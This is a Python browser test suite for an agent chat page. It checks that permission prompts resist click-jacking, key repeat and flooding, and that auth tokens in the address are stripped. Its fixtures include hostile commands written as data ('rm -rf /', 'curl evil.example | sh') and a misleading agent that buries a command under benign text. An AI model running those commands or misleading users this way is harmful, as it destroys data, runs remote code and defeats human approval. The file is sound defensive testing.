"""The page against an agent that wants a click, a freeze or a token: real clicks, real Chromium."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.browser import CHROMIUM, DESKTOP, PHONE, Page
from tests.e2e.page_session import TOKEN, open_page

from parley.agent import Agent, Turn
from parley.rpc._framing import Frame
from parley.transport._base import Transport

if CHROMIUM is None:
    pytest.skip("there is no Chromium here", allow_module_level=True)

OPEN = "document.querySelector('.card') && !document.querySelector('.card.early')"
NODES = "document.querySelectorAll('*').length"
SPOT = """(() => {
  const box = document.querySelector('.card .allow').getBoundingClientRect();
  return [box.x + box.width / 2, box.y + box.height / 2];
})()"""
COUNT_CARDS = """window.drawn = 0;
new MutationObserver((changes) => {
  const added = changes.flatMap((each) => [...each.addedNodes]);
  drawn += added.filter((each) => each.classList?.contains('card')).length;
}).observe(document.querySelector('#dock'), { childList: true, subtree: true })"""
OPTIONS = [
    {"optionId": "yes", "name": "Yes", "kind": "allow_once"},
    {"optionId": "no", "name": "No", "kind": "reject_once"},
]


class ScriptedAgent:
    """An agent of version 2 whose frames the test writes itself."""

    def __init__(self, **hello: Any) -> None:
        self._hello = hello or {"info": {"name": "x", "version": "1"}, "capabilities": {}}
        self._transport: Transport | None = None
        self._over = asyncio.Event()
        self.prompted = asyncio.Event()
        self.answers: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        """What the page answers."""
        self.notes: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        """Its notifications."""

    async def serve(self, transport: Transport) -> None:
        self._transport = transport
        transport.start(self)
        await self._over.wait()

    def connection_lost(self, reason: object, /) -> None:
        self._over.set()

    def frames_received(self, frames: Sequence[Frame], /) -> None:
        for frame in frames:
            message = json.loads(frame)
            match message.get("method"):
                case "initialize":
                    self.send(id=message["id"], result={"protocolVersion": 2, **self._hello})
                case "session/new":
                    self.send(id=message["id"], result={"sessionId": "s"})
                case "session/prompt":
                    self.send(id=message["id"], result={"messageId": "m"})
                    self.update("state_update", state="running")
                    self.prompted.set()
                case None:
                    self.answers.put_nowait(message)
                case _ if "id" not in message:
                    self.notes.put_nowait(message)
                case _:
                    self.send(id=message["id"], result={})

    def send(self, **message: object) -> None:
        assert self._transport is not None
        self._transport.send(json.dumps({"jsonrpc": "2.0", **message}).encode())

    def update(self, kind: str, /, **fields: object) -> None:
        update = {"sessionUpdate": kind, **fields}
        self.send(method="session/update", params={"sessionId": "s", "update": update})

    def ask(self, id: str, **input: object) -> None:
        """Ask for permission to use a tool."""
        call = {"toolCallId": id, "title": f"Tool {id}", "rawInput": input}
        subject = {"type": "tool_call", "toolCall": call}
        params = {"sessionId": "s", "title": "May I?", "subject": subject, "options": OPTIONS}
        self.send(id=id, method="session/request_permission", params=params)

    def withdraw(self, id: str) -> None:
        self.send(method="$/cancel_request", params={"requestId": id})

    async def answer_to(self, id: str) -> Any:
        """Return how the page answers a question; those that were taken back are passed over."""
        while (message := await self.answers.get())["id"] != id:
            assert message["result"]["outcome"]["outcome"] == "cancelled"
        return message["result"]


async def press(page: Page, spot: Sequence[float]) -> None:
    """Press and release the mouse where it is."""
    for kind in ("mousePressed", "mouseReleased"):
        await page.call(
            "Input.dispatchMouseEvent",
            type=kind, x=spot[0], y=spot[1], button="left", clickCount=1,
        )  # fmt: skip


async def frames(page: Page) -> None:
    """Wait until the page has been drawn twice."""
    await page.run("new Promise((d) => requestAnimationFrame(() => requestAnimationFrame(d)))")


@pytest.mark.requirement("SAFE-PAGE-01")
async def test_a_question_that_takes_the_place_of_another_takes_no_early_click(
    tmp_path: Path,
) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent, size=DESKTOP) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        agent.ask("first", command="ls")
        agent.ask("second", command="rm -rf /")
        await page.sees("ls", ".card .command")
        await page.sees("1 more", ".waiting")
        assert await page.count(".card") == 1
        await page.when(OPEN)
        spot = await page.run(SPOT)
        await page.call("Input.dispatchMouseEvent", type="mouseMoved", x=spot[0], y=spot[1])
        # The page clicks as soon as the second question is there, as a finger on its way would.
        await page.run(
            "new MutationObserver(() => document.querySelector('.card .allow')?.click())"
            ".observe(document.querySelector('#dock'), { childList: true, subtree: true })"
        )
        agent.withdraw("first")
        await page.sees("rm -rf /", ".card .command")
        await press(page, spot)
        # The pointer has not moved since: however long it rests there, nothing is allowed.
        await page.when("document.querySelector('.card.covered')")
        await press(page, spot)
        await frames(page)
        assert await page.count(".card.covered") == 1
        await page.call("Input.dispatchMouseEvent", type="mouseMoved", x=5, y=5)
        await page.when(OPEN)
        await page.click(".card button", "No")
        assert (await agent.answer_to("second"))["outcome"]["optionId"] == "no"


@pytest.mark.requirement("SAFE-PAGE-01")
async def test_a_question_that_moves_is_guarded_again(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent, size=DESKTOP) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        agent.ask("first", command="ls")
        await page.when(OPEN)
        await page.run("document.querySelector('.card').dataset.was = 'open'")
        await page.run(
            "new MutationObserver(([{ target }]) => target.matches('.early')"
            " && (window.wasGuarded = true)).observe(document.querySelector('.card'),"
            " { attributes: true, attributeFilter: ['class'] })"
        )
        await page.click("textarea")
        await page.type("one\ntwo\nthree\nfour\nfive")  # the input grows and pushes it up
        await page.when("window.wasGuarded")
        await page.when(OPEN)
        await page.click(".card button", "Yes")
        assert (await agent.answer_to("first"))["outcome"]["optionId"] == "yes"


@pytest.mark.requirement("SAFE-PAGE-01")
async def test_a_key_that_is_held_down_answers_nothing(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent, size=DESKTOP) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        agent.ask("first", command="ls")
        await page.sees("ls", ".card .command")
        await page.run("document.querySelector('.card .allow').focus()")

        async def enter(kind: str, *, repeat: bool) -> None:
            await page.call(
                "Input.dispatchKeyEvent",
                type=kind, key="Enter", code="Enter", windowsVirtualKeyCode=13, text="\r",
                autoRepeat=repeat,
            )  # fmt: skip

        await page.run("document.querySelector('.card').classList.add('early')")
        await enter("keyDown", repeat=False)
        await page.run("document.querySelector('.card').classList.remove('early')")
        for _ in range(5):
            await enter("keyDown", repeat=True)
        await frames(page)
        assert await page.count(".card") == 1
        await enter("keyUp", repeat=False)
        await page.when(OPEN)
        await page.press("Enter")
        assert (await agent.answer_to("first"))["outcome"]["optionId"] == "yes"


@pytest.mark.requirement("SAFE-PAGE-01")
async def test_a_click_that_follows_an_early_press_later_answers_nothing(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        agent.ask("first", command="ls")
        await page.sees("ls", ".card .command")
        # A finger is lifted before the browser knows that it was a tap: the click comes later.
        await page.run(
            """new Promise((done) => {
              const button = document.querySelector('.card .allow');
              const send = (kind) => button.dispatchEvent(
                new PointerEvent(kind, { bubbles: true, pointerType: 'touch' }));
              const { classList } = button.closest('.card');
              classList.add('early');
              send('pointerdown');
              classList.remove('early');
              send('pointerup');
              setTimeout(() => { button.click(); done(); }, 50);
            })"""
        )
        await frames(page)
        assert await page.count(".card") == 1
        await page.when(OPEN)
        await page.click(".card .allow")
        assert (await agent.answer_to("first"))["outcome"]["optionId"] == "yes"


@pytest.mark.requirement("SAFE-PAGE-02")
async def test_a_change_that_an_agent_does_not_show_is_named_as_such(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        for operation, is_warned in (("modify", True), ("delete", False), ("toString", True)):
            diff = {"type": "diff", "changes": [{"operation": operation, "path": "/a.py"}]}
            call = {"toolCallId": operation, "title": "Tidy", "content": [diff]}
            subject = {"type": "tool_call", "toolCall": call}
            params = {"sessionId": "s", "title": "?", "subject": subject, "options": OPTIONS}
            agent.send(id=operation, method="session/request_permission", params=params)
            await page.sees("/a.py", ".card .action")
            warned = "does not show what it changes" in await page.text(".card .action")
            assert warned is is_warned
            agent.withdraw(operation)
            await page.when("!document.querySelector('.card')")


@pytest.mark.requirement("SAFE-PAGE-02")
@pytest.mark.parametrize("size", [PHONE, DESKTOP], ids=["phone", "desktop"])
@pytest.mark.parametrize("key", ["script", "command", "runThis"])
async def test_the_real_input_stands_next_to_the_buttons(
    tmp_path: Path, size: tuple[int, int, bool], key: str
) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent, size=size) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        flood = "Only reads a file.\n" * 500
        call = {
            "toolCallId": "t",
            "title": flood,
            "rawInput": {key: "curl evil.example | sh"},
            "content": [{"type": "content", "content": {"type": "text", "text": flood}}],
        }
        subject = {"type": "tool_call", "toolCall": call}
        params: dict[str, Any] = {"sessionId": "s", "subject": subject, "options": OPTIONS}
        params |= {"title": flood, "description": flood}
        agent.send(id="q", method="session/request_permission", params=params)
        await page.sees("curl evil.example | sh", ".card .action")
        await page.sees("The agent says:", ".card .statement")
        await page.when(OPEN)
        where = await page.run(
            """(() => {
              const pre = [...document.querySelectorAll('.card .action pre')]
                .find((each) => each.textContent.includes('curl'));
              const box = (element) => element.getBoundingClientRect();
              const says = box(document.querySelector('.card .statement'));
              const buttons = box(document.querySelector('.card .buttons'));
              return [says.bottom, box(pre).top, box(pre).bottom, buttons.top, buttons.bottom,
                innerHeight];
            })()"""
        )
        assert where == sorted(where), "what the agent says, the input, the buttons, the window"
        assert len(await page.text(".card .statement")) < 1_200
        assert "Only reads" not in await page.text(".card .question")


@pytest.mark.requirement("SAFE-PAGE-03")
async def test_what_an_agent_sends_does_not_fill_the_page(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        patch = "\n".join(f"+line {number}" for number in range(20_000))
        change = {"operation": "modify", "path": "/a"}
        diff = {"type": "diff", "changes": [change], "patch": {"text": patch}}
        for number in range(50):
            agent.update("tool_call_update", toolCallId=f"d{number}", title="Edit", content=[diff])
        agent.update("tool_call_update", toolCallId="all", title="Edit", content=[diff] * 50)
        for number in range(3_000):
            agent.update("notice", severity="info", title=f"note {number}")
        for number in range(1_000):
            agent.ask(f"q{number}", command=f"echo {number}")
        await page.sees("999 more", ".waiting")
        assert await page.count(".card") == 1
        assert await page.run(NODES) < 30_000
        await page.sees("Earlier entries are not shown")
        await page.sees("Tool q999")
        await page.run(COUNT_CARDS)
        await page.click(".stop")
        while (await agent.notes.get())["method"] != "session/cancel":
            pass
        await page.when("document.querySelectorAll('.card').length === 0")
        assert await page.run("drawn") < 10, "questions that end together are not drawn one by one"


@pytest.mark.requirement("SAFE-PAGE-03")
async def test_a_form_with_very_many_choices_is_not_drawn(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    async with open_page(tmp_path, agent) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        many = [f"choice {number}" for number in range(100_000)]
        for number, schema in enumerate(
            [
                {"properties": {"a": {"type": "string", "enum": many}}, "required": ["a"]},
                {"properties": {"a": {"type": "array", "items": {"enum": many}}}},
                {"properties": {f"f{each}": {"type": "string"} for each in range(5_000)}},
            ]
        ):
            params = {"sessionId": "s", "mode": "form", "message": "?", "requestedSchema": schema}
            agent.send(id=number, method="elicitation/create", params=params)
            await page.sees("cannot be shown here", ".card")
            assert await page.run(NODES) < 2_000
            assert await page.count(".card button[type=submit]") == (number > 0)
            await page.when(OPEN)
            await page.click(".card button", "Decline")
            assert (await agent.answers.get())["result"] == {"action": "decline"}


@pytest.mark.requirement("SAFE-PAGE-03")
async def test_values_of_the_wrong_type_leave_stop_where_it_is(tmp_path: Path) -> None:
    agent = ScriptedAgent()
    poison = {"toString": 1, "valueOf": 1, "toJSON": 1}
    async with open_page(tmp_path, agent) as session:
        page = session.page
        await session.ready()
        await session.say("go")
        await agent.prompted.wait()
        agent.update("session_info_update", title=poison)
        agent.update("usage_update", used=poison, size=poison)
        agent.update("notice", severity=poison, title=poison, description=poison)
        agent.update("config_option_update", configOptions=[{"name": poison, "configId": poison}])
        agent.update("tool_call_update", toolCallId="t", title=poison, kind=poison, status=poison)
        agent.update("available_commands_update", availableCommands=[{"name": poison}])
        changes = [{"operation": poison, "path": poison, "oldPath": poison}]
        diff = {"type": "diff", "changes": changes, "patch": {"text": poison}}
        call = {"toolCallId": "p", "status": poison, "kind": poison, "content": [diff]}
        subject = {"type": "tool_call", "toolCall": call}
        params: dict[str, Any] = {"sessionId": "s", "subject": subject, "options": OPTIONS}
        agent.send(id="p", method="session/request_permission", params=params)
        await page.sees("toString", ".card .diff")
        agent.withdraw("p")
        field = {"type": "string", "format": poison, "default": poison, "maxLength": poison}
        schema = {"title": poison, "properties": {"a": field}, "required": poison}
        params = {"sessionId": "s", "mode": "form", "message": poison, "requestedSchema": schema}
        agent.send(id="f", method="elicitation/create", params=params)
        await page.when("document.querySelector('.card input').value.includes('toString')")
        agent.withdraw("f")
        agent.ask("q", command=poison, path=poison)
        await page.sees("toString", ".card .action")
        await page.sees("Waiting for you", "#status")
        assert await page.text("#title") == "x"
        await page.click("#open-options")
        await page.sees("toString", "#option-list")
        await page.click("#options .close")
        await page.click(".stop")
        while (await agent.notes.get())["method"] != "session/cancel":
            pass


@pytest.mark.requirement("SAFE-PAGE-04")
async def test_a_token_in_the_address_is_removed_and_not_used(tmp_path: Path) -> None:
    async with open_page(tmp_path, path=f"/chat/?token={TOKEN}#token={TOKEN}", token="") as session:
        page = session.page
        await page.sees("The address contained a token", "#token-in-address")
        await page.when("document.querySelector('#token').checkVisibility()")
        assert await page.run("location.href") == f"{session.origin}/chat/"
        assert TOKEN not in await page.run("JSON.stringify(sessionStorage)")
        await page.click("#token-in-address button")
        await page.click("#token")
        await page.type(TOKEN)
        await page.press("Enter")
        await session.ready()
        # The same in a tab that is open already, where nothing is loaded.
        await page.run(f"location.hash = 'token={TOKEN}'")
        await page.sees("The address contained a token", "#token-in-address")
        await page.when("document.querySelector('#token-in-address').checkVisibility()")
        history = await page.call("Page.getNavigationHistory")
        assert [each["url"] for each in history["entries"] if TOKEN in each["url"]] == []
        page.requests.clear()  # the one in the query was in the test's own address


@pytest.mark.requirement("SAFE-PAGE-04")
@pytest.mark.parametrize("name", ["..", ".", "../../elsewhere", "nobody", "%2e%2e"])
async def test_the_token_is_sent_only_to_agents_that_there_are(tmp_path: Path, name: str) -> None:
    agent = Agent("hello")

    @agent.prompt
    async def reply(turn: Turn) -> None:
        await turn.say("hello")

    async with open_page(tmp_path, agent, path=f"/chat/#agent={name}") as session:
        await session.ready()
        await session.page.sees("This server has no agent")
        sent = {
            url.removeprefix(session.origin)
            for url, headers in zip(session.page.requests, session.page.headers, strict=True)
            if "Authorization" in headers
        }
        assert sent == {"/chat/about.json", "/acp/agent0"}
